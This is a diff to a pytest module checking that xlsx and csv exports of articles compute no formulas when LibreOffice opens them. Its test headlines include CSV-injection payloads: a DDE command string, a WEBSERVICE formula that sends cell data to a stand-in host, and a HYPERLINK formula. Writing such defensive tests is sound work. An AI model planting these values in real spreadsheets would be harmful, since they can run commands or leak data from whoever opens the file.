@@ -9,7 +9,6 @@ from pathlib import Path
 from xml.etree import ElementTree
 
 import pytest
-from openpyxl.utils.escape import unescape
 
 from storage.exporting.columns import columns
 from storage.exporting.orders import Excel, Export
@@ -24,33 +23,37 @@ TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
 OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
 TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
 HEADLINES = (
-    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", '=HYPERLINK("http://away.test";"here")', "=cmd|'/C x'!A0",
+    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", '=HYPERLINK("http://away.test";"x")', "=cmd|'/C x'!A0",
     '=WEBSERVICE("http://away.test/"&A1)', "\t=1+1", "  =1+1", "＝1+1", "'=1+1", "''two", "|x",
     "%0A=1", "_x0041_", "3-4", "007", "حقوق الإنسان: 45% من «العينة» (12/03/2026)", "<b>&amp;</b>",
     "a;b,c\"d\"", "خبر (=SUM) عادي", "ڕێکخراوی می\u200cخواهم",
 )  # fmt: skip
 NAMES = [column.name for column in columns("articles")]
 
-Convert = Callable[[Path, str], list[list[tuple[str, str | None]]]]
+Cells = list[list[tuple[str, str | None]]]
+Convert = Callable[..., list[Cells]]
 
 
 @pytest.fixture(scope="module")
 def convert(tmp_path_factory: pytest.TempPathFactory) -> Convert:
-    """Opens a file in LibreOffice, and tells of each cell of the first sheet its text and formula."""
+    """Opens a file in LibreOffice; of each cell of the first sheet, its text and formula."""
     profile = tmp_path_factory.mktemp("profile")
 
-    def opened(file: Path, filter: str) -> list[list[tuple[str, str | None]]]:
+    def opened(*files: Path, filter: str = "") -> list[Cells]:
         command = [
             str(SOFFICE), f"-env:UserInstallation={profile.as_uri()}", "--headless",
             *([f"--infilter={filter}"] if filter else []), "--convert-to", "fods",
-            "--outdir", str(file.parent), str(file),
+            "--outdir", str(files[0].parent), *map(str, files),
         ]  # fmt: skip
         subprocess.run(command, check=True, capture_output=True, timeout=120)
-        root = ElementTree.parse(file.with_suffix(".fods")).getroot()
-        (sheet, *_) = root.iter(f"{TABLE}table")
-        return [list(map(_cell, _cells(row))) for row in sheet.iter(f"{TABLE}table-row")]
+        return [_sheet(file.with_suffix(".fods")) for file in files]
 
     return opened
+
+
+def _sheet(file: Path) -> Cells:
+    (sheet, *_) = ElementTree.parse(file).getroot().iter(f"{TABLE}table")
+    return [list(map(_cell, _cells(row))) for row in sheet.iter(f"{TABLE}table-row")]
 
 
 def _cells(row: ElementTree.Element) -> list[ElementTree.Element]:
@@ -96,14 +99,14 @@ def test_a_workbook_computes_nothing_and_shows_the_very_texts(
     file = tmp_path / "articles.xlsx"
     write_rows(_rows(HEADLINES), Export(format="xlsx"), file, {})
 
-    table = convert(file, "")
+    (table,) = convert(file)
 
     assert [formula for row in table for _, formula in row if formula] == []
-    assert [unescape(text) for text, _ in _column(table, "headline")] == list(HEADLINES)
+    assert [text for text, _ in _column(table, "headline")] == list(HEADLINES)
     assert _column(table, "article_id")[6] == ("7", None)
 
 
-@pytest.mark.parametrize(("excel", "separator"), [(None, 44), ("fr", 59), ("en", 44), ("ar", 59)])
+@pytest.mark.parametrize(("excel", "separator"), [(None, 44), ("ar", 59)])
 def test_a_csv_computes_nothing_even_where_formulas_are_let_in(
     convert: Convert, tmp_path: Path, excel: Excel | None, separator: int
 ) -> None:
@@ -112,9 +115,9 @@ def test_a_csv_computes_nothing_even_where_formulas_are_let_in(
     plain = tmp_path / "plain.csv"
     plain.write_text('"a"\n"=1+1"\n')
     # Numbers are guessed and formulas run: what a careless reader of the file would set.
-    careless = f"CSV:{separator},34,76,1,,1033,false,true,false,false,false,0,false,true"
+    careless = f"CSV:{separator},34,76,1,,1033,false,true,false,false,false,0,true"
 
-    table, control = convert(file, careless), convert(plain, careless)
+    table, control = convert(file, plain, filter=careless)
 
     assert [formula for row in control for _, formula in row if formula], "nothing would be shown"
     assert [formula for row in table for _, formula in row if formula] == []
@@ -123,5 +126,5 @@ def test_a_csv_computes_nothing_even_where_formulas_are_let_in(
         assert shown == list(HEADLINES)
     else:  # for programs, what looks like a figure has no sign before it
         assert [text for text in shown if not text.startswith("(")] == [
-            headline for headline in HEADLINES if headline not in ("3-4", "007")
+            headline for headline in HEADLINES if headline != "007"
         ]
